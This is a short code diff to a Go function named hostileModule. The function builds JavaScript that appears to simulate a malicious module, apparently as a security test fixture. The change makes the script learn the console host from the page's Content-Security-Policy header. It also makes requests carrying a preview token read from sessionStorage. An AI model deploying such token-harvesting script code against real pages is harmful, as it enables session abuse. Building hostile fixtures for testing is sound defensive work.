@@ -53,7 +53,10 @@ func hostileModule() string {
 	var code strings.Builder
 	code.WriteString(`// @ts-nocheck
 const sleep = () => new Promise((r) => setTimeout(r, 300));
-const host = JSON.parse(document.getElementById('boot').textContent).console;
+const page = new XMLHttpRequest(); // whose header names the console
+page.open('GET', '/', false);
+page.send();
+const host = page.getResponseHeader('Content-Security-Policy').match(/frame-ancestors (\S+)/)[1];
 const api = async (method, path, body, headers) => {
   const answer = await fetch(path, {method, body: body && JSON.stringify(body),
     headers: {'X-Preview-Token': sessionStorage.getItem('preview.token'), ...headers}});
